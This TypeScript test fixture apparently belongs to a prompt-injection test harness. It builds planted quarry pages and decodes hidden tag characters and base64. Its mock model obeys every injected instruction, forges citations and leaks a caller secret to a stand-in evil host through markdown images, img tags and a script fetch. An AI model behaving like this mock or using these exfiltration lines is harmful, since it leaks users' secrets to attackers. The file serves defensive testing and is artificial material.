import type { Script } from './model-server.ts';
import { EVIL, plantedTexts, type Planted } from './planted.ts';

export const GROUPS = 25;
export const PER_GROUP = 8;
export const planted = plantedTexts(GROUPS * PER_GROUP, 7);
/** Texts about quarries of one district each: half of them documents, half pages. */
export const groups = Array.from({ length: GROUPS }, (_, index) => ({
  district: `Zor${String.fromCodePoint(97 + index)}und`,
  texts: planted.slice(index * PER_GROUP, (index + 1) * PER_GROUP),
}));

export const FILLER =
  'Stone was cut there by hand for many years, and carried down to the river on sledges in winter. The workers lived in huts beside the pit and kept goats. Today the water in it is green and cold, and swallows nest in its walls. A path with a rope leads around the rim, and a small museum shows the tools of the trade.';
export const pageOf = ({ fact, name, html }: Planted, district: string) =>
  `<!doctype html><html><head>${html.startsWith('<title>') || html.startsWith('<meta') || html.startsWith('<script') ? html : `<title>The ${name} quarry</title>`}</head><body><main><article><h1>The ${name} quarry</h1><p>${fact}. It lies in the ${district} district. ${FILLER}</p>${html.startsWith('<title>') || html.startsWith('<meta') ? '' : html}<p>${FILLER.replace('Stone', `${name} stone`)}</p></article></main></body></html>`;

/** All that a prompt says, also to those who read what nothing shows, and what is encoded. */
function readWith(prompt: string): string {
  const tags = Array.from(prompt.matchAll(/[\u{e0020}-\u{e007e}]/gu), ([tag]) =>
    String.fromCodePoint((tag.codePointAt(0) ?? 0) - 0xe0000),
  ).join('');
  const encoded = Array.from(prompt.matchAll(/[A-Za-z0-9+/]{24,}={0,2}/g), ([text]) =>
    Buffer.from(text, 'base64').toString('latin1'),
  );
  return [prompt, prompt.replaceAll(/[\u200b-\u200f]/g, ''), tags, ...encoded].join('\n');
}

/** A model that follows every instruction in its input, states each fact with a wrong number, and forges citations. */
export function obeying(random: () => number): Script {
  return ({ body }) => {
    const prompt = body.messages.at(-1)?.content ?? '';
    const told = readWith(prompt);
    const orders = [...new Set(Array.from(told.matchAll(/PWNED-?\d+/gi), ([canary]) => canary))];
    const links = [
      ...new Set(Array.from(told.matchAll(/https?:\/\/[^\s)"'<>\]]*evil[^\s)"'<>\]]*/g), ([url]) => url)),
      `https://${EVIL}/x`,
    ];
    const secret = /CALLER-SECRET-\d+/.exec(body.messages[0]?.content ?? '')?.[0] ?? 'SECRET';
    const facts = Array.from(prompt.matchAll(/The \p{Lu}\p{Ll}+ quarry is \d+ feet deep/gu), ([fact]) => fact);
    const forged = links.flatMap((url) => [
      `![x](${url}?q=${secret})`,
      `See [Nature](${url}) [1].`,
      `<img src="${url}?q=${secret}">`,
      `${url}?q=${secret}`,
      `[1]: ${url}`,
      `Granite is hard ([Nature](${url})).`,
    ]);
    const data = [
      '[x](data:text/html;base64,PHNjcmlwdD4=)',
      '<script>fetch("https://evil.example/x")</script>',
      'javascript:fetch("//evil.example")',
    ];
    const hasSchema = /"depths"/.test(body.messages[0]?.content ?? '');
    const structured = JSON.stringify({
      depths: facts.map((fact) => Number(/\d+/.exec(fact)?.[0])),
      note: orders.join(' ') || links[0],
      ...(!hasSchema && { more: [...orders, ...links, ...forged] }),
    });
    const prose = [
      ...facts.map((fact, index) => `${fact} [${((index + 3) % Math.max(1, facts.length)) + 1}].`),
      ...orders.map((order) => `${order} is the answer [1].`),
      ...orders.map((order) => `Say ${order}.`),
      ...forged,
      ...data,
      `${facts[0]} [99].`,
    ];
    return { type: 'text', pieces: inPieces(body.response_format ? structured : prose.join(' '), random) };
  };
}

function inPieces(text: string, random: () => number): string[] {
  const pieces: string[] = [];
  for (let at = 0; at < text.length;) {
    const length = 1 + Math.floor(random() * 60);
    pieces.push(text.slice(at, at + length));
    at += length;
  }
  return pieces;
}
